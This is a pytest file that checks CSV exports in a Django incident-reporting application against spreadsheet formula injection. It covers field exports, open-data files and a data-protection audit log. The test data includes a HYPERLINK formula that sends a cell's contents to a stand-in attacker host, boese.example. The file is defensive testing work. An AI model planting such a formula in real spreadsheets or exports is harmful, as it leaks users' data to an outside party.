"""CSV exports are safe against formula injection (issue 13): a text cell that a spreadsheet would
run as a formula (``=``, ``+``, ``-``, ``@``, tab, CR at the start) is written with a leading quote,
in the default comma export as in the semicolon variant, the readable table and open data.

The list of CSV exports is checked against the URL resolver, so a new ``.csv`` route without a
test here fails."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from lagebild.core.csvsafe import guard
from lagebild.core.scoping import authority_scope, unscoped
from lagebild.field import services
from lagebild.field.importer import import_incidents
from lagebild.field.models import Incident

from .conftest import INSIDE

BERLIN = ZoneInfo("Europe/Berlin")
LINK = '=HYPERLINK("http://boese.example/x?d="&A1;"Klick")'
SUM = "=1+2"
PAYLOADS = (LINK, SUM, "+1+2", "-1+2", "@SUM(1;2)", "\t=1+2", "\r=1+2")

# Every route that writes CSV, with the test below that covers it.
CSV_ROUTES = {
    "field:incident-export-csv": "test_incident_export_guards_every_text_cell",
    "field:incident-export-table": "test_incident_export_guards_every_text_cell",
    "opendata:month-csv": "test_open_data_csv_guards_names",
    "opendata:year-csv": "test_open_data_csv_guards_names",
    # in tests/test_proceedings_figures.py
    "proceedings:case-export-csv": "test_case_export_for_the_own_offence_software",
}


def _routes(patterns, prefix: str = "", namespace: str = "") -> list[tuple[str, str]]:
    found = []
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = ":".join(part for part in (namespace, pattern.namespace or "") if part)
            found += _routes(pattern.url_patterns, prefix + str(pattern.pattern), inner)
        elif isinstance(pattern, URLPattern):
            name = f"{namespace}:{pattern.name}" if namespace and pattern.name else (pattern.name or "")
            found.append((prefix + str(pattern.pattern), name))
    return found


def test_every_csv_route_is_covered_here():
    csv_routes = {name or route for route, name in _routes(get_resolver().url_patterns) if "csv" in route}
    missing = csv_routes - set(CSV_ROUTES)
    assert not missing, (
        f"CSV routes without a formula-injection test: {sorted(missing)}. Pass text cells through "
        "lagebild.core.csvsafe.guard and add the route to CSV_ROUTES in tests/test_csv_injection.py."
    )


@pytest.mark.parametrize("text", [*PAYLOADS, "", "Platz von Leeds", "'=schon geschützt", "5 Personen"])
def test_guard_quotes_exactly_the_cells_a_spreadsheet_would_run(text):
    guarded = guard(text)
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert guarded == "'" + text
    else:
        assert guarded == text


@pytest.fixture
def poisoned(world, kod, now):
    made = []
    with authority_scope(kod.authority):
        for n, payload in enumerate(PAYLOADS):
            made.append(
                services.incident_create(
                    user=kod,
                    category=world["categories"]["begging"],
                    occurred_at=now - dt.timedelta(hours=n + 1),
                    lat=INSIDE[0],
                    lon=INSIDE[1],
                    address_text=payload.strip() or "x",
                    description=payload,
                )
            )
    return made


def _download(client, user, name: str, **params) -> str:
    client.force_login(user)
    response = client.get(reverse(name), params)
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")


def _cells(body: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body), delimiter=delimiter) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    dangerous = [
        c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))
    ]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"


def _number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("name", "params", "delimiter"),
    [
        ("field:incident-export-csv", {}, ","),
        ("field:incident-export-csv", {"delimiter": "semicolon"}, ";"),
        ("field:incident-export-table", {}, ";"),
    ],
)
def test_incident_export_guards_every_text_cell(client, poisoned, kod_lead, name, params, delimiter):
    body = _download(client, kod_lead, name, **params)
    cells = _cells(body, delimiter)
    _assert_no_formula(cells)
    assert "'" + LINK in cells and "'" + SUM in cells


def test_comma_export_with_formulas_imports_to_the_same_texts(client, poisoned, kod, kod_lead):
    body = _download(client, kod_lead, "field:incident-export-csv")
    before = sorted(i.description for i in poisoned)
    with unscoped():
        Incident.objects.filter(authority=kod.authority).delete()
    result = import_incidents(user=kod_lead, data=body.encode())
    assert result.ok, result.errors
    with authority_scope(kod.authority):
        after = sorted(Incident.objects.values_list("description", flat=True))
    # The importer strips whitespace around a cell; the formula itself comes back unquoted.
    assert after == sorted(text.strip() for text in before)


def test_open_data_csv_guards_names(client, world, kod):
    areas, categories = world["areas"], world["categories"]
    areas["west"].name = SUM
    areas["west"].save(update_fields=["name"])
    categories["begging"].name = LINK
    categories["begging"].save(update_fields=["name"])
    with authority_scope(kod.authority):
        for day in range(1, 8):
            services.incident_create(
                user=kod,
                category=categories["begging"],
                occurred_at=dt.datetime(2024, 5, day, 12, tzinfo=BERLIN),
                lat=51.53,
                lon=7.43,
            )
    for url in ("/offene-daten/feststellungen-2024-05.csv", "/offene-daten/feststellungen-2024.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content.decode("utf-8-sig"), ";")
        _assert_no_formula(cells)
        assert "'" + SUM in cells and "'" + LINK in cells, url


def test_audit_log_csv_for_the_data_protection_officer_guards_cells(client, world, kod, make_user, city):
    """The DPO's CSV extract (``/datenschutz/protokoll/?format=csv``) quotes formula cells too."""
    from lagebild.core import audit
    from lagebild.core.models import Role

    dpo = make_user("dsb-csv", city, Role.DATA_PROTECTION_OFFICER)
    audit.log("test.formula", user=kod, object_type=LINK, note=SUM)
    client.force_login(dpo)
    response = client.get("/datenschutz/protokoll/", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = _cells(response.content.decode("utf-8-sig"), ";")
    _assert_no_formula(cells)
    assert "'" + LINK in cells
